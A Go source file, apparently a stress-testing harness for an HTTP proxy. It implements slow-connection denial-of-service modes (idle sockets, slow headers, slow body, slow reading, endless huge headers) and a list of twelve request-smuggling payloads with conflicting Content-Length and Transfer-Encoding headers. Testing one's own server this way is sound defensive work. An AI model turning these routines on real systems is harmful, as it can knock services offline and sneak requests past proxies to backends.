package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"time"
)

// dialTimeout is short: an attacker does not wait for one connection when it can try another.
const dialTimeout = 3 * time.Second

// retryPause prevents a refused attacker from only using its own processor time.
const retryPause = 20 * time.Millisecond

func dial(ctx context.Context, address string, t *tally) net.Conn {
	d := net.Dialer{Timeout: dialTimeout, KeepAlive: -1}
	conn, err := d.DialContext(ctx, "tcp", address)
	if err != nil {
		if ctx.Err() == nil {
			t.fail(err)
		}
		return nil
	}
	t.add("connected")
	return conn
}

// hold opens a connection, passes it to use, and opens the next when that one has ended.
func hold(ctx context.Context, o options, t *tally, use func(net.Conn)) {
	for ctx.Err() == nil {
		conn := dial(ctx, o.target, t)
		if conn != nil {
			stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
			use(conn)
			stop()
			_ = conn.Close()
			if ctx.Err() == nil {
				t.add("closed by the server")
			}
		}
		if !rest(ctx, retryPause) {
			return
		}
	}
}

// waitEnd returns when the other side has closed the connection.
func waitEnd(conn net.Conn) { _, _ = io.Copy(io.Discard, conn) }

// idle opens count connections and sends nothing.
func idle(ctx context.Context, o options, t *tally) error {
	workers(o.count, func(int) { hold(ctx, o, t, waitEnd) })
	return nil
}

// slowHeader sends a request's header one line every second.
func slowHeader(ctx context.Context, o options, t *tally) error {
	workers(o.count, func(int) {
		hold(ctx, o, t, func(conn net.Conn) {
			_, err := fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: %s\r\n", o.path, o.host)
			for i := 0; err == nil && rest(ctx, time.Second); i++ {
				_, err = fmt.Fprintf(conn, "X-Slow-%d: 1\r\n", i)
			}
		})
	})
	return nil
}

// slowBody announces a large body and sends one byte of it every second.
func slowBody(ctx context.Context, o options, t *tally) error {
	workers(o.count, func(int) {
		hold(ctx, o, t, func(conn net.Conn) {
			_, err := fmt.Fprintf(conn, "POST %s HTTP/1.1\r\nHost: %s\r\nContent-Length: 1000000000\r\n\r\n", o.path, o.host)
			for err == nil && rest(ctx, time.Second) {
				_, err = conn.Write([]byte("x"))
			}
		})
	})
	return nil
}

// slowReader asks for a large answer and reads one byte of it every second.
func slowReader(ctx context.Context, o options, t *tally) error {
	workers(o.count, func(int) {
		hold(ctx, o, t, func(conn net.Conn) {
			_, err := fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: %s\r\n\r\n", o.path, o.host)
			one := make([]byte, 1)
			for err == nil && rest(ctx, time.Second) {
				_, err = conn.Read(one)
			}
		})
	})
	return nil
}

// hugeHeaders sends headers that never end, as fast as the server reads them.
func hugeHeaders(ctx context.Context, o options, t *tally) error {
	filler := strings.Repeat("a", 4000)
	workers(o.count, func(int) {
		hold(ctx, o, t, func(conn net.Conn) {
			_, err := fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: %s\r\n", o.path, o.host)
			for i := 0; err == nil && ctx.Err() == nil; i++ {
				_, err = fmt.Fprintf(conn, "X-Huge-%d: %s\r\n", i, filler)
			}
		})
	})
	return nil
}

// smuggled returns requests whose length two parsers may understand differently. Behind each a
// second request is hidden, for /smuggled, which no backend may ever receive: hall counts it.
func smuggled(host string) map[string]string {
	hidden := "GET /smuggled HTTP/1.1\r\nHost: " + host + "\r\n\r\n"
	head := func(path string, lines ...string) string {
		return "POST " + path + " HTTP/1.1\r\nHost: " + host + "\r\n" + strings.Join(lines, "\r\n") + "\r\n\r\n"
	}
	length := fmt.Sprintf("Content-Length: %d", len("0\r\n\r\n"+hidden))
	return map[string]string{
		"length and chunked":   head("/", length, "Transfer-Encoding: chunked") + "0\r\n\r\n" + hidden,
		"chunked and length":   head("/", "Transfer-Encoding: chunked", "Content-Length: 4") + "0\r\n\r\n",
		"two lengths":          head("/", "Content-Length: 0", fmt.Sprintf("Content-Length: %d", len(hidden))) + hidden,
		"odd encoding":         head("/", length, "Transfer-Encoding: xchunked") + "0\r\n\r\n" + hidden,
		"tab before encoding":  head("/", length, "Transfer-Encoding:\tchunked") + "0\r\n\r\n" + hidden,
		"space before colon":   head("/", length, "Transfer-Encoding : chunked") + "0\r\n\r\n" + hidden,
		"two encodings":        head("/", length, "Transfer-Encoding: chunked", "Transfer-Encoding: identity") + "0\r\n\r\n" + hidden,
		"folded encoding":      head("/", length, "Transfer-Encoding:\r\n chunked") + "0\r\n\r\n" + hidden,
		"signed length":        head("/", "Content-Length: +0") + hidden,
		"length with a comma":  head("/", fmt.Sprintf("Content-Length: 0, %d", len(hidden))) + hidden,
		"bare line feeds":      "POST / HTTP/1.1\nHost: " + host + "\nContent-Length: 0\nTransfer-Encoding: chunked\n\n" + hidden,
		"chunk with extension": head("/", "Transfer-Encoding: chunked") + "0;\n\r\n\r\n" + hidden,
	}
}

// smuggling sends each of the smuggled requests again and again. The proxy may answer the second
// request by itself, which is counted; it must not forward it to the backend.
func smuggling(ctx context.Context, o options, t *tally) error {
	for ctx.Err() == nil {
		for name, text := range smuggled(o.host) {
			conn := dial(ctx, o.target, t)
			if conn == nil {
				continue
			}
			answers, err := exchange(conn, text)
			switch {
			case err != nil && !errors.Is(err, os.ErrDeadlineExceeded):
				t.fail(err)
			case answers == 0:
				t.add("no answer: " + name)
			default:
				t.add(fmt.Sprintf("%d answers: %s", answers, name))
			}
		}
	}
	return nil
}

// exchange sends text and counts the answers that arrive within a moment.
func exchange(conn net.Conn, text string) (answers int, err error) {
	defer conn.Close()
	if err := conn.SetDeadline(time.Now().Add(300 * time.Millisecond)); err != nil {
		return 0, err
	}
	if _, err := io.WriteString(conn, text); err != nil {
		return 0, err
	}
	answer, err := io.ReadAll(conn)
	return strings.Count(string(answer), "HTTP/1.1 "), err
}
